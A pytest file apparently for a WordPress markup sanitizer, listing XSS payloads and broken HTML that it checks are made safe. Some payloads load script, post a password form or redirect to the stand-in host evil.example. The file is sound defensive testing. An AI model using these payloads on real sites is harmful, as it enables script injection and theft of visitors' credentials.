"""Markup that means harm or is broken: what is left of it acts on nobody."""

import pytest

from tests.home.wordpress.tools import assert_safe, read

MALICIOUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<p onclick='alert(1)' style='background:url(javascript:alert(1))'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='//evil.example'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "[embed]javascript:alert(1)[/embed]",
    '[embed]"><script>alert(1)</script>[/embed]',
    '[caption caption="<script>alert(1)</script>"]<img src=x>[/caption]',
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->",
    '<!-- wp:embed {"url":"javascript:alert(1)"} /-->',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<div><p><b><i>never</p> closed <table><tr><td>x",
    "</p></div></table></ul>",
    "<ul><li><ul><li>" * 300,
    "<div>" * 3000 + "deep" + "<img src=x>",
    "<![bogus [",
    "<!doctype html [<!entity x 'y'>]>&x;",
]


@pytest.mark.parametrize("content", MALICIOUS)
@pytest.mark.parametrize("editor", ["", "<!-- wp:paragraph --><p>x</p><!-- /wp:paragraph -->"])
def test_malicious_and_broken_markup_is_made_safe(content, editor):
    assert_safe(read(f"{editor}Before. {content} After."))


def test_what_may_not_stand_in_a_text_is_counted():
    text = read("<script>x</script><form><input></form><svg></svg><iframe></iframe>")
    assert dict(text.left_out) == {"script": 1, "form": 1, "input": 1, "svg": 1, "iframe": 1}
